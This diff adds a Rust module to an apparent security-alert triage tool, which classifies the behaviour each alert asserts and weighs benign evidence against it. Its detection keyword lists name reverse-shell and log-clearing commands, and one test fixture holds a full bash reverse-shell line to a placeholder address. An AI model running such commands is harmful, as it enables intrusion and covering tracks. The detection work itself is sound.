@@ -1,0 +1,710 @@
+//! The claim an alert makes: the behaviour its detection asserts ("LSASS memory was read",
+//! "a sign-in came from an unusual place", "data left for an outside project"). Everything
+//! else an alert carries (where the actor was, who it was, which host) is a side attribute.
+//!
+//! The rule this module serves (verdict.rs): a false alert needs benign evidence that
+//! explains *the claim*. A fact about a side attribute clears only an alert whose claim is
+//! that attribute: the corporate VPN explains an unusual sign-in location, not DNS
+//! tunnelling. And a behaviour that does harm whoever does it (credential dumping,
+//! persistence, privilege grants, log or backup deletion, security-tool tampering) is
+//! explained only by an allowance that names that behaviour.
+
+use serde_json::json;
+
+use crate::case::Case;
+use crate::judgement::{Covers, Judgement, Weight};
+
+/// What a detection asserts happened, in kinds an allowance can name (docs/context.md).
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub enum Behaviour {
+    CredentialDumping,
+    Ransomware,
+    /// Audit logs, detectors or security tools turned off or deleted.
+    SecurityTampering,
+    BackupDeletion,
+    /// Roles, policies, group memberships or sudo rights granted.
+    PrivilegeGrant,
+    /// A foothold that survives: new keys, users, tasks, services, MFA factors.
+    Persistence,
+    /// A shell handed to a remote host.
+    ReverseShell,
+    Cryptomining,
+    CredentialGuessing,
+    Scanning,
+    ExploitAttempt,
+    Exfiltration,
+    CommandAndControl,
+    /// A file or process the source judged malicious.
+    Malware,
+    /// A remote-control tool or session.
+    RemoteAccess,
+    LateralMovement,
+    /// Code run in a suspicious way (script interpreters, system binaries, containers).
+    Execution,
+    /// Phishing, malware or impersonation sent by mail.
+    MessageThreat,
+    ExposedSecret,
+    /// A sign-in unusual in where or how it came (location, travel, device, network).
+    SignInAnomaly,
+    /// A weakness rather than an act: a failed control, a vulnerable version, an exposure.
+    Posture,
+    /// Anything else the detection says.
+    Other,
+}
+
+impl Behaviour {
+    /// The name an allowance uses for it (docs/context.md, `behaviours`).
+    pub const fn name(self) -> &'static str {
+        match self {
+            Behaviour::CredentialDumping => "credential_dumping",
+            Behaviour::Ransomware => "ransomware",
+            Behaviour::SecurityTampering => "security_tampering",
+            Behaviour::BackupDeletion => "backup_deletion",
+            Behaviour::PrivilegeGrant => "privilege_grant",
+            Behaviour::Persistence => "persistence",
+            Behaviour::ReverseShell => "reverse_shell",
+            Behaviour::Cryptomining => "cryptomining",
+            Behaviour::CredentialGuessing => "credential_guessing",
+            Behaviour::Scanning => "scanning",
+            Behaviour::ExploitAttempt => "exploit_attempt",
+            Behaviour::Exfiltration => "exfiltration",
+            Behaviour::CommandAndControl => "command_and_control",
+            Behaviour::Malware => "malware",
+            Behaviour::RemoteAccess => "remote_access",
+            Behaviour::LateralMovement => "lateral_movement",
+            Behaviour::Execution => "execution",
+            Behaviour::MessageThreat => "message_threat",
+            Behaviour::ExposedSecret => "exposed_secret",
+            Behaviour::SignInAnomaly => "sign_in_anomaly",
+            Behaviour::Posture => "posture",
+            Behaviour::Other => "other",
+        }
+    }
+
+    /// Every behaviour, for the context checker's closed list.
+    pub const ALL: &'static [Behaviour] = &[
+        Behaviour::CredentialDumping,
+        Behaviour::Ransomware,
+        Behaviour::SecurityTampering,
+        Behaviour::BackupDeletion,
+        Behaviour::PrivilegeGrant,
+        Behaviour::Persistence,
+        Behaviour::ReverseShell,
+        Behaviour::Cryptomining,
+        Behaviour::CredentialGuessing,
+        Behaviour::Scanning,
+        Behaviour::ExploitAttempt,
+        Behaviour::Exfiltration,
+        Behaviour::CommandAndControl,
+        Behaviour::Malware,
+        Behaviour::RemoteAccess,
+        Behaviour::LateralMovement,
+        Behaviour::Execution,
+        Behaviour::MessageThreat,
+        Behaviour::ExposedSecret,
+        Behaviour::SignInAnomaly,
+        Behaviour::Posture,
+        Behaviour::Other,
+    ];
+
+    pub fn parse(name: &str) -> Option<Behaviour> {
+        let name = name.trim().to_ascii_lowercase();
+        Behaviour::ALL
+            .iter()
+            .copied()
+            .find(|behaviour| behaviour.name() == name)
+    }
+
+    /// Behaviours that do harm whoever does them: only an allowance that names the
+    /// behaviour explains one.
+    pub fn high_harm(self) -> bool {
+        matches!(
+            self,
+            Behaviour::CredentialDumping
+                | Behaviour::Ransomware
+                | Behaviour::SecurityTampering
+                | Behaviour::BackupDeletion
+                | Behaviour::PrivilegeGrant
+                | Behaviour::Persistence
+                | Behaviour::ReverseShell
+        )
+    }
+
+    /// The ATT&CK tactic of the behaviour, for an alert whose source and findings name none.
+    pub fn tactic(self) -> Option<&'static str> {
+        Some(match self {
+            Behaviour::CredentialDumping
+            | Behaviour::CredentialGuessing
+            | Behaviour::ExposedSecret => "Credential Access",
+            Behaviour::Ransomware | Behaviour::BackupDeletion | Behaviour::Cryptomining => "Impact",
+            Behaviour::SecurityTampering => "Defense Evasion",
+            Behaviour::PrivilegeGrant => "Privilege Escalation",
+            Behaviour::Persistence => "Persistence",
+            Behaviour::ReverseShell => "Execution",
+            Behaviour::Scanning => "Discovery",
+            Behaviour::ExploitAttempt | Behaviour::MessageThreat | Behaviour::SignInAnomaly => {
+                "Initial Access"
+            }
+            Behaviour::Exfiltration => "Exfiltration",
+            Behaviour::CommandAndControl | Behaviour::RemoteAccess => "Command and Control",
+            Behaviour::LateralMovement => "Lateral Movement",
+            // A file verdict at rest, a weakness, an unknown detection, or "a process did
+            // something" (every process alert) imply no tactic by themselves.
+            Behaviour::Malware | Behaviour::Posture | Behaviour::Execution | Behaviour::Other => {
+                return None;
+            }
+        })
+    }
+
+    /// Whether the claim is about where or how an actor connected, so that a fact about the
+    /// actor's network (the corporate VPN, the office) answers it.
+    pub fn about_location(self) -> bool {
+        self == Behaviour::SignInAnomaly
+    }
+}
+
+/// The claim of one alert.
+#[derive(Debug, Clone)]
+pub struct Claim {
+    pub behaviour: Behaviour,
+    /// One sentence: what the detection asserts.
+    pub statement: String,
+}
+
+/// Words that say what an alert asserts, most specific behaviour first (`of` tries them in
+/// this order). Registered in `playbooks::VOCABULARY`.
+pub(crate) const TAMPERING_WORDS: &[&str] = &[
+    "stoplogging",
+    "deletetrail",
+    "deletedetector",
+    "disablesecurityhub",
+    "deleteflowlogs",
+    "deletelogsink",
+    "tamper",
+    "disable defender",
+    "disabled defender",
+    "set-mppreference",
+    "wevtutil cl",
+    "clear-eventlog",
+    "audit log cleared",
+    "log cleared",
+    "cleared the security log",
+];
+pub(crate) const BACKUP_DELETION_WORDS: &[&str] = &[
+    "deletebackup",
+    "deleterecoverypoint",
+    "deletesnapshot",
+    "delete snapshot",
+    "backup deleted",
+    "deletebackupvault",
+];
+pub(crate) const PRIVILEGE_WORDS: &[&str] = &[
+    "setiampolicy",
+    "attachuserpolicy",
+    "attachrolepolicy",
+    "putuserpolicy",
+    "putrolepolicy",
+    "addusertogroup",
+    "updateassumerolepolicy",
+    "roles/owner",
+    "anomalous grant",
+    "role assignment",
+    "domain admins",
+    "enterprise admins",
+    "admin role",
+    "super admin",
+    "privilege.grant",
+    "sudoers",
+    "nopasswd",
+    "added to a privileged group",
+    "added to a security-enabled global group",
+    "a member was added to a security-enabled",
+];
+pub(crate) const PERSISTENCE_WORDS: &[&str] = &[
+    "createaccesskey",
+    "createloginprofile",
+    "createuser",
+    "createserviceaccountkey",
+    "scheduled task",
+    "schtasks",
+    "launch agent",
+    "launchagent",
+    "launch daemon",
+    "launchdaemon",
+    "persistence",
+    "persistency",
+    "autostart",
+    "run key",
+    "crontab",
+    "new service",
+    "factor.reset",
+    "factor.deactivate",
+    "reset all factors",
+    "mfa reset",
+    "factor reset",
+];
+pub(crate) const REVERSE_SHELL_WORDS: &[&str] = &[
+    "reverse shell",
+    "/dev/tcp/",
+    "/dev/udp/",
+    "redirect stdout/stdin to network",
+    "exec:/bin/",
+    "exec:cmd",
+    "nc -e",
+    "ncat -e",
+    "bash -i >&",
+];
+pub(crate) const EXFILTRATION_CLAIM_WORDS: &[&str] = &[
+    "exfiltrat",
+    "tunnel",
+    "takeout",
+    "large upload",
+    "mass download",
+    "mass file download",
+    "data transfer",
+    "copied to a project outside",
+];
+pub(crate) const C2_CLAIM_WORDS: &[&str] = &[
+    "command and control",
+    "command-and-control",
+    "beacon",
+    "blackhole",
+    "bad domain",
+    "bad ip",
+    "trojan",
+    "backdoor",
+    "callback",
+    "c2 ",
+    "tor traffic",
+];
+pub(crate) const SIGN_IN_WORDS: &[&str] = &[
+    "unfamiliar",
+    "atypical",
+    "impossible travel",
+    "impossibletravel",
+    "unusual location",
+    "new country",
+    "rare country",
+    "new device",
+    "anonymous ip",
+    "anonymizedip",
+    "unlikelytravel",
+    "improbable",
+    "new location",
+    "sign-in from",
+    "signin from",
+    "login from",
+];
+pub(crate) const POSTURE_WORDS: &[&str] = &[
+    "vulnerab",
+    "cve-",
+    "should be enabled",
+    "should not",
+    "misconfigur",
+    "certificate_expired",
+    "certificate expired",
+    "publicly accessible",
+    "open firewall",
+    "compliance",
+];
+/// Whole words that name scanning (not "scan" inside "scanner" or "ondemandscan").
+pub(crate) const SCAN_CLAIM_WORDS: &[&str] = &[
+    "scan",
+    "scanned",
+    "nmap",
+    "portprobe",
+    "port probe",
+    "recon",
+    "reconnaissance",
+];
+/// Words of findings that report a weakness (a vulnerable package), not an act.
+pub(crate) const VULNERABILITY_WORDS: &[&str] = &[
+    "vulnerabilities/cve",
+    "vulnerable package",
+    "vulnerable version",
+    "software_vulnerable",
+    "vulnerable_version",
+    "package vulnerability",
+];
+pub(crate) const LATERAL_WORDS: &[&str] = &[
+    "lateral movement",
+    "psexec",
+    "remote service",
+    "wmiexec",
+    "pass-the-hash",
+    "pass the hash",
+];
+
+/// Whether the source tagged the alert with one of these ATT&CK techniques (or a
+/// sub-technique of them).
+pub(crate) fn has_technique(case: &Case<'_>, techniques: &[&str]) -> bool {
+    case.signals.mitre_techniques.iter().any(|found| {
+        techniques.iter().any(|wanted| {
+            found
+                .strip_prefix(wanted)
+                .is_some_and(|rest| rest.is_empty() || rest.starts_with('.'))
+        })
+    })
+}
+
+/// What the alert asserts.
+pub fn of(case: &Case<'_>) -> Claim {
+    let behaviour = behaviour_of(case);
+    let title = crate::truncate(&case.alert.title, 160);
+    let statement = match behaviour {
+        Behaviour::Other => format!("the detection '{title}'"),
+        _ => format!("{} ('{title}')", describe(behaviour)),
+    };
+    Claim {
+        behaviour,
+        statement,
+    }
+}
+
+fn describe(behaviour: Behaviour) -> &'static str {
+    match behaviour {
+        Behaviour::CredentialDumping => "credentials were dumped",
+        Behaviour::Ransomware => "ransomware behaviour",
+        Behaviour::SecurityTampering => "logging or a security tool was disabled or deleted",
+        Behaviour::BackupDeletion => "backups or snapshots were deleted",
+        Behaviour::PrivilegeGrant => "privileges were granted",
+        Behaviour::Persistence => "a persistent foothold was created",
+        Behaviour::ReverseShell => "a shell was handed to a remote host",
+        Behaviour::Cryptomining => "cryptocurrency was mined",
+        Behaviour::CredentialGuessing => "passwords were guessed",
+        Behaviour::Scanning => "hosts or ports were scanned",
+        Behaviour::ExploitAttempt => "an exploit was attempted",
+        Behaviour::Exfiltration => "data left the organisation",
+        Behaviour::CommandAndControl => "a host talked to command-and-control infrastructure",
+        Behaviour::Malware => "a file or process is malicious",
+        Behaviour::RemoteAccess => "a remote-control tool or session was used",
+        Behaviour::LateralMovement => "an actor moved to another host",
+        Behaviour::Execution => "code ran in a suspicious way",
+        Behaviour::MessageThreat => "a malicious or impersonating message was sent",
+        Behaviour::ExposedSecret => "a secret was exposed",
+        Behaviour::SignInAnomaly => "a sign-in was unusual in where or how it came",
+        Behaviour::Posture => "a weakness was found",
+        Behaviour::Other => "the detection",
+    }
+}
+
+fn behaviour_of(case: &Case<'_>) -> Behaviour {
+    use crate::playbooks::{behaviour, cloud, endpoint, identity, network};
+    let signals = case.signals;
+    if signals.secret.is_some() {
+        return Behaviour::ExposedSecret;
+    }
+    if signals.email.is_some() {
+        return Behaviour::MessageThreat;
+    }
+    let credential_dumping = (case.mentions(behaviour::LSASS)
+        && case.first_mention(behaviour::LSASS_TOOLS).is_some())
+        || case.mentions(behaviour::LSASS_DUMPERS)
+        || case.mentions(behaviour::DCSYNC_WORDS)
+        || case.mentions(behaviour::NTDS_WORDS)
+        || case.mentions(behaviour::CREDENTIAL_STORE_WORDS)
+        || case.mentions(behaviour::KERBEROS_WORDS)
+        || has_technique(case, &["T1003", "T1555", "T1558"]);
+    let ordered: [(bool, Behaviour); 21] = [
+        (credential_dumping, Behaviour::CredentialDumping),
+        (
+            case.mentions(behaviour::RANSOMWARE_WORDS) || has_technique(case, &["T1486"]),
+            Behaviour::Ransomware,
+        ),
+        (case.mentions(REVERSE_SHELL_WORDS), Behaviour::ReverseShell),
+        (
+            case.mentions(TAMPERING_WORDS) || has_technique(case, &["T1562", "T1070"]),
+            Behaviour::SecurityTampering,
+        ),
+        (
+            case.mentions(BACKUP_DELETION_WORDS) || has_technique(case, &["T1490"]),
+            Behaviour::BackupDeletion,
+        ),
+        (
+            // Granting rights to someone (a role, a group, sudo), not a process elevating
+            // itself: T1548 (elevation through sudo or a prompt) is ordinary administration.
+            case.mentions(PRIVILEGE_WORDS) || has_technique(case, &["T1098"]),
+            Behaviour::PrivilegeGrant,
+        ),
+        (
+            case.mentions(PERSISTENCE_WORDS)
+                || has_technique(case, &["T1053", "T1543", "T1547", "T1136", "T1556"]),
+            Behaviour::Persistence,
+        ),
+        (
+            case.mentions(cloud::CRYPTOMINING_WORDS),
+            Behaviour::Cryptomining,
+        ),
+        (
+            case.mentions(cloud::INSTANCE_CREDENTIAL_WORDS),
+            Behaviour::CredentialDumping,
+        ),
+        (
+            case.mentions(identity::BRUTE_FORCE_WORDS)
+                || case.mentions(identity::PASSWORD_SPRAY_WORDS)
+                || has_technique(case, &["T1110"])
+                || signals.sign_in.as_ref().is_some_and(|sign_in| {
+                    sign_in.failure_count.unwrap_or(0) >= 10
+                        || sign_in.targeted_accounts.unwrap_or(0) >= 5
+                }),
+            Behaviour::CredentialGuessing,
+        ),
+        (
+            case.mentions(network::SCAN_NOTICE_WORDS)
+                || case.first_word(SCAN_CLAIM_WORDS).is_some()
+                || has_technique(case, &["T1046", "T1595"]),
+            Behaviour::Scanning,
+        ),
+        // A finding that a package is vulnerable names a CVE too, but no one attempted
+        // anything: a weakness, not an exploit attempt.
+        (case.mentions(VULNERABILITY_WORDS), Behaviour::Posture),
+        (
+            case.mentions(network::ATTACK_WORDS) || has_technique(case, &["T1190"]),
+            Behaviour::ExploitAttempt,
+        ),
+        (
+            case.mentions(EXFILTRATION_CLAIM_WORDS) || has_technique(case, &["T1048", "T1567"]),
+            Behaviour::Exfiltration,
+        ),
+        (
+            case.mentions(C2_CLAIM_WORDS) || has_technique(case, &["T1071", "T1572", "T1090"]),
+            Behaviour::CommandAndControl,
+        ),
+        (
+            case.first_word(endpoint::REMOTE_ACCESS_TOOLS).is_some()
+                || has_technique(case, &["T1219"]),
+            Behaviour::RemoteAccess,
+        ),
+        (
+            case.mentions(LATERAL_WORDS) || has_technique(case, &["T1021", "T1570"]),
+            Behaviour::LateralMovement,
+        ),
+        (
+            case.mentions(endpoint::MALWARE_WORDS)
+                || signals.source_verdict == Some(sleuth_domain::SourceVerdict::Malicious),
+            Behaviour::Malware,
+        ),
+        // A resource made reachable is a weakness opened, whoever's sign-in did it.
+        (
+            case.mentions(cloud::PUBLIC_EXPOSURE_WORDS)
+                || signals
+                    .cloud
+                    .as_ref()
+                    .is_some_and(|cloud| cloud.publicly_exposed == Some(true)),
+            Behaviour::Posture,
+        ),
+        (
+            (signals.sign_in.is_some()
+                && case.category() == Some(sleuth_domain::AlertCategory::Identity))
+                || case.mentions(SIGN_IN_WORDS),
+            Behaviour::SignInAnomaly,
+        ),
+        (case.mentions(POSTURE_WORDS), Behaviour::Posture),
+    ];
+    if let Some((_, found)) = ordered.iter().find(|(applies, _)| *applies) {
+        return *found;
+    }
+    if signals.process.is_some() || has_technique(case, &["T1059", "T1204", "T1609"]) {
+        return Behaviour::Execution;
+    }
+    Behaviour::Other
+}
+
+/// Side facts that do not answer the claim are set aside (they stay as findings, with a
+/// sentence saying why they do not decide), and when nothing benign answers the claim a
+/// finding says so: the verdict is then never a false alert.
+pub fn weigh(case: &Case<'_>, claim: &Claim, judgements: &mut Vec<Judgement>) {
+    let mut set_aside = Vec::new();
+    for judgement in judgements.iter_mut() {
+        if !judgement.weight.is_benign() || judgement.covers.answers(claim) {
+            continue;
+        }
+        set_aside.push(judgement.headline.clone());
+        judgement.detail = format!(
+            "{} This is a fact about {}, not an explanation of what the alert claims ({}); it \
+             does not make the alert a false alert.",
+            judgement.detail,
+            judgement.covers.what(),
+            claim.statement
+        );
+        judgement.weight = Weight::Neutral;
+    }
+    let answered = judgements
+        .iter()
+        .any(|judgement| judgement.weight.is_benign());
+    // When no check found anything either way, the detection's own claim is what a human
+    // must resolve: the verdict names it as its evidence rather than "nothing".
+    let judged = judgements.iter().any(|judgement| {
+        judgement.weight.is_benign()
+            || matches!(
+                judgement.weight,
+                Weight::Proof | Weight::Malicious | Weight::Suspicious | Weight::Missing
+            )
+    });
+    if !set_aside.is_empty() && !answered {
+        judgements.push(
+            Judgement::new(
+                Weight::Neutral,
+                "Nothing benign explains the claim",
+                format!(
+                    "The alert claims that {}. What is known ({}) is about other things, so it \
+                     cannot be closed as a false alert.",
+                    claim.statement,
+                    set_aside.join("; ")
+                ),
+            )
+            .evidence(
+                "claim",
+                json!({"behaviour": claim.behaviour.name(), "statement": claim.statement, "side_facts": set_aside}),
+            ),
+        );
+    }
+    if !judged {
+        let mut unresolved = Judgement::new(
+            Weight::Suspicious,
+            format!("Unexplained: {}", claim.statement),
+            format!(
+                "The alert claims that {}. Nothing in the alert, its history or the operator's \
+                 context confirms or explains it, so the claim stands for a human to resolve.",
+                claim.statement
+            ),
+        )
+        .evidence(
+            "claim",
+            json!({"behaviour": claim.behaviour.name(), "statement": claim.statement}),
+        )
+        .restates_claim();
+        for value in case.hosts().iter().chain(case.people()).take(4) {
+            unresolved = unresolved.artifact(*value);
+        }
+        if let Some(tactic) = claim.behaviour.tactic() {
+            unresolved = unresolved.tactic(tactic);
+        }
+        judgements.push(unresolved);
+    }
+}
+
+impl Covers {
+    /// Whether benign evidence of this reach answers the claim.
+    pub fn answers(&self, claim: &Claim) -> bool {
+        match self {
+            Covers::Claim => true,
+            Covers::Location => claim.behaviour.about_location(),
+            Covers::Behaviours(named) => named.contains(&claim.behaviour),
+            Covers::Allowance(named) => {
+                named.contains(&claim.behaviour) || !claim.behaviour.high_harm()
+            }
+        }
+    }
+
+    /// What a side fact of this reach is about, for the sentence that sets it aside.
+    fn what(&self) -> &'static str {
+        match self {
+            Covers::Location => "where the actor connected from",
+            Covers::Behaviours(_) => "something other than what the alert claims",
+            Covers::Allowance(_) => {
+                "what an allowance permits, which does not name this high-harm behaviour"
+            }
+            Covers::Claim => "the claim",
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::context::Context;
+    use sleuth_domain::History;
+
+    fn claim_of(raw: serde_json::Value) -> Claim {
+        let alert = sleuth_parsers::parse_alert(None, &raw, chrono::Utc::now()).unwrap();
+        let history = History::default();
+        let context = Context::empty();
+        of(&Case::new(&alert, &history, &context))
+    }
+
+    #[test]
+    fn the_claim_is_the_behaviour_the_detection_asserts() {
+        let cases = [
+            (
+                serde_json::json!({"title": "LSASS memory read", "process": {"command_line": "procdump -ma lsass.exe"}}),
+                Behaviour::CredentialDumping,
+            ),
+            (
+                serde_json::json!({"title": "Possible DNS tunneling to t.example.net"}),
+                Behaviour::Exfiltration,
+            ),
+            (
+                serde_json::json!({"title": "Reverse shell", "cmd": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}),
+                Behaviour::ReverseShell,
+            ),
+            (
+                serde_json::json!({"title": "Sign-in from unfamiliar location"}),
+                Behaviour::SignInAnomaly,
+            ),
+            (
+                serde_json::json!({"title": "Port scan from 10.1.1.1"}),
+                Behaviour::Scanning,
+            ),
+            (
+                serde_json::json!({"title": "User added to Domain Admins"}),
+                Behaviour::PrivilegeGrant,
+            ),
+            (
+                serde_json::json!({"title": "Something odd"}),
+                Behaviour::Other,
+            ),
+        ];
+        for (raw, expected) in cases {
+            assert_eq!(claim_of(raw.clone()).behaviour, expected, "{raw}");
+        }
+    }
+
+    #[test]
+    fn benign_evidence_answers_only_the_claims_within_its_reach() {
+        let claim = |behaviour| Claim {
+            behaviour,
+            statement: String::new(),
+        };
+        assert!(Covers::Location.answers(&claim(Behaviour::SignInAnomaly)));
+        assert!(!Covers::Location.answers(&claim(Behaviour::Exfiltration)));
+        // An allowance answers ordinary work, and high-harm behaviour only when it names it.
+        let sanctioned = Covers::Allowance(vec![Behaviour::BackupDeletion]);
+        assert!(sanctioned.answers(&claim(Behaviour::LateralMovement)));
+        assert!(sanctioned.answers(&claim(Behaviour::BackupDeletion)));
+        assert!(!sanctioned.answers(&claim(Behaviour::CredentialDumping)));
+        assert!(!Covers::Allowance(Vec::new()).answers(&claim(Behaviour::PrivilegeGrant)));
+        assert!(Covers::Behaviours(&[Behaviour::Malware]).answers(&claim(Behaviour::Malware)));
+        assert!(Covers::Claim.answers(&claim(Behaviour::CredentialDumping)));
+        for behaviour in Behaviour::ALL {
+            assert_eq!(Behaviour::parse(behaviour.name()), Some(*behaviour));
+        }
+    }
+
+    #[test]
+    fn a_side_fact_is_set_aside_and_the_finding_says_nothing_explains_the_claim() {
+        let raw = serde_json::json!({"title": "Possible DNS tunneling", "host": "wks-1"});
+        let alert = sleuth_parsers::parse_alert(None, &raw, chrono::Utc::now()).unwrap();
+        let history = History::default();
+        let context = Context::empty();
+        let case = Case::new(&alert, &history, &context);
+        let claim = of(&case);
+        let mut judgements = vec![
+            Judgement::new(Weight::Reassures, "Signed in from the VPN", "From the VPN.")
+                .covers(Covers::Location),
+        ];
+        weigh(&case, &claim, &mut judgements);
+        assert_eq!(judgements[0].weight, Weight::Neutral);
+        assert!(judgements[0].detail.contains("not an explanation"));
+        assert_eq!(judgements.len(), 3);
+        assert_eq!(judgements[1].headline, "Nothing benign explains the claim");
+        assert_eq!(judgements[2].weight, Weight::Suspicious);
+
+        // With nothing judged at all, the claim itself is what stays unresolved.
+        let mut judgements = Vec::new();
+        weigh(&case, &claim, &mut judgements);
+        assert_eq!(judgements.len(), 1);
+        assert_eq!(judgements[0].weight, Weight::Suspicious);
+        assert!(judgements[0].artifacts.contains(&"wks-1".to_string()));
+    }
+}
